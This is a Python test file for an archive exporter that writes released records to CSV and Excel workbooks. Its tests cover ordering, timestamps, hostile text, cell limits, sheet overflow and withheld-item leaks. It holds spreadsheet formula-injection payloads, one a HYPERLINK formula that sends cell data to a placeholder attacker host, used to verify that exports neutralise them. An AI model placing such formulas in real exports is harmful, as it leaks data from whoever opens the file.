"""The table of items: opened with the csv module and with openpyxl."""

from __future__ import annotations

import csv
import gc
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell.cell import TYPE_STRING
from openpyxl.workbook.workbook import Workbook

from archiver.errors import ExportError
from archiver.export.base import Production
from archiver.export.cells import LONGEST
from archiver.export.columns import COLUMNS
from archiver.export.table import TableExporter
from archiver.export.wording import visible
from tests.support import staged_scene
from tests.support.staged import CANARY, MADE_AT, released, staged

FORMULAS = (
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1",
)  # fmt: skip


def _write(production: Production, folder: Path, at_most: int = 0) -> Path:
    folder.mkdir()
    told: list[int] = []
    exporter = TableExporter(at_most=at_most) if at_most else TableExporter()
    exporter.write(production, folder, told.append)
    assert told == list(range(1, production.released + 1))
    return folder


def _csv(folder: Path) -> list[dict[str, str]]:
    with (folder / "index.csv").open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle, strict=True))


def _book(folder: Path) -> Workbook:
    return openpyxl.load_workbook(folder / "index.xlsx")


def _sheet(book: Workbook, name: str) -> list[dict[str, object]]:
    header, *rows = book[name].iter_rows(values_only=True)
    return [dict(zip(map(str, header), row, strict=True)) for row in rows]


def test_csv_and_workbook_have_the_same_items_in_their_order(tmp_path: Path) -> None:
    production = staged(tmp_path / "staging")
    folder = _write(production, tmp_path / "table")
    rows, sheet = _csv(folder), _sheet(_book(folder), "Items")
    items = list(production.items())
    assert [row["bates"] for row in rows] == [item.bates for item in items]
    assert [row["bates"] for row in sheet] == [item.bates for item in items]
    assert list(rows[0]) == list(sheet[0]) == [column.name for column in COLUMNS]
    for row, cells, item in zip(rows, sheet, items, strict=True):
        assert row["text"] == visible(item.text)
        assert (cells["text"] or "") == row["text"]
        assert cells["record"] == int(row["record"]) == item.record_id
        assert row["redacted"] == ("yes" if item.cuts else "no")


def test_times_are_texts_in_utc_and_on_the_agencys_clock(tmp_path: Path) -> None:
    folder = _write(staged(tmp_path / "staging"), tmp_path / "table")
    row, cells = _csv(folder)[0], _sheet(_book(folder), "Items")[0]
    assert row["published_utc"] == cells["published_utc"] == "2025-11-03T16:00:00Z"
    assert row["published_local"] == cells["published_local"] == "2025-11-03T10:00:00-06:00"


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula(tmp_path: Path, text: str) -> None:
    production = staged(tmp_path / "staging", items=[released(1, text=text, author_name=text)])
    folder = _write(production, tmp_path / "table")
    row = _csv(folder)[0]
    assert row["text"] == row["author_name"] == "'" + visible(text)
    names = [column.name for column in COLUMNS]
    cell = _book(folder)["Items"].cell(2, names.index("text") + 1)
    assert cell.data_type == TYPE_STRING
    assert cell.value == visible(text)
    assert cell.hyperlink is None


def test_addresses_are_texts_and_no_links(tmp_path: Path) -> None:
    folder = _write(staged(tmp_path / "staging"), tmp_path / "table")
    cells = [cell for row in _book(folder)["Items"].iter_rows() for cell in row]
    assert [cell for cell in cells if cell.hyperlink is not None] == []
    assert any(str(cell.value).startswith("https://") for cell in cells)


@pytest.mark.parametrize(
    "text",
    ['a "b", c;d', "line one\nline two\r\nline three", "null \x00 and bell \x07", "\ufffe\uffff",
     staged_scene.HOSTILE, staged_scene.ARABIC, staged_scene.EMOJI, "_x0041_ stays"],
)  # fmt: skip
def test_hostile_text_comes_back_as_it_was(tmp_path: Path, text: str) -> None:
    production = staged(tmp_path / "staging", items=[released(1, text=text), released(2)])
    folder = _write(production, tmp_path / "table")
    expected = visible(text).translate({0xFFFE: 0xFFFD, 0xFFFF: 0xFFFD})
    rows = _csv(folder)
    assert rows[0]["text"] == expected
    assert len(rows) == 2
    read = str(_sheet(_book(folder), "Items")[0]["text"])
    assert read.replace("_x005F_", "_") == expected  # openpyxl leaves this escape to its user


def test_every_line_of_the_csv_ends_as_rfc_4180_says_and_every_cell_is_quoted(
    tmp_path: Path,
) -> None:
    production = staged(tmp_path / "staging", items=[released(1, text="a;=1+1")])
    content = (_write(production, tmp_path / "table") / "index.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\r\n") == content.count(b"\n") == 2
    assert b'"a;=1+1"' in content


def test_a_text_too_long_for_a_cell_is_cut_there_and_whole_in_the_csv(tmp_path: Path) -> None:
    long, emoji, fits = "x" * 40_000, "👮" * 20_000, "y" * LONGEST
    made = [released(1, text=long), released(2, text=emoji), released(3, text=fits)]
    folder = _write(staged(tmp_path / "staging", items=made), tmp_path / "table")
    assert [row["text"] for row in _csv(folder)] == [long, emoji, fits]
    cells = [str(row["text"]) for row in _sheet(_book(folder), "Items")]
    for cell, bates in zip(cells[:2], ("SPD-000001", "SPD-000002"), strict=True):
        assert len(cell.encode("utf-16-le")) // 2 <= LONGEST
        assert cell.endswith(f"[cut here; the whole text is in json/items.jsonl under {bates}]")
    assert cells[1].startswith("👮👮")
    assert cells[2] == fits


def test_a_full_sheet_goes_on_in_another_one(tmp_path: Path) -> None:
    made = [released(position) for position in range(1, 8)]
    production = staged(tmp_path / "staging", items=made, kept_back=staged_scene.kept_back())
    book = _book(_write(production, tmp_path / "table", at_most=4))
    assert book.sheetnames[:4] == ["Items", "Items 2", "Items 3", "Withheld"]
    read = [row["position"] for name in book.sheetnames[:3] for row in _sheet(book, name)]
    assert read == [1, 2, 3, 4, 5, 6, 7]
    assert book["Items 3"].auto_filter.ref == f"A1:{book['Items 3'].dimensions.split(':')[1]}"
    assert book["Items 2"].freeze_panes == "A2"


def test_the_other_sheets_tell_what_is_withheld_that_capture_ran_and_what_columns_mean(
    tmp_path: Path,
) -> None:
    book = _book(_write(staged(tmp_path / "staging"), tmp_path / "table"))
    assert book.sheetnames == ["Items", "Withheld", "Capture log", "Read me"]
    assert [row["reason"] for row in _sheet(book, "Withheld")] == [
        each.reason for each in staged_scene.kept_back()
    ]
    assert [row["runs"] for row in _sheet(book, "Capture log")] == [96, 95]
    explained = {(row["sheet"], row["column"]) for row in _sheet(book, "Read me")}
    for name in ("Items", "Withheld", "Capture log"):
        for cell in book[name][1]:
            assert (name, cell.value) in explained


def test_the_same_staging_gives_the_same_bytes(tmp_path: Path) -> None:
    production = staged(tmp_path / "staging", made_at=MADE_AT)
    first, second = (_write(production, tmp_path / name) for name in ("one", "two"))
    for name in ("index.csv", "index.xlsx"):
        assert (first / name).read_bytes() == (second / name).read_bytes()
    assert sorted(path.name for path in first.iterdir()) == ["index.csv", "index.xlsx"]


def test_nothing_that_is_not_released_is_in_it(tmp_path: Path) -> None:
    folder = _write(staged(tmp_path / "staging"), tmp_path / "table")
    assert CANARY.encode() not in (folder / "index.csv").read_bytes()
    for sheet in _book(folder):
        assert CANARY not in str(list(sheet.values))


@pytest.mark.parametrize(
    ("taken", "sentence"),
    [
        ("index.csv", "the table of 2026-0001-1 could not be written"),
        ("index.xlsx", r"the workbook index\.xlsx could not be written"),
    ],
)
def test_a_disk_that_refuses_is_told_in_one_sentence(
    tmp_path: Path, taken: str, sentence: str
) -> None:
    production = staged(tmp_path / "staging")
    (tmp_path / "table" / taken).mkdir(parents=True)
    with pytest.raises(ExportError, match=sentence):
        TableExporter().write(production, tmp_path / "table", lambda _: None)
    gc.collect()  # a file that was left open warns here, and so fails this test
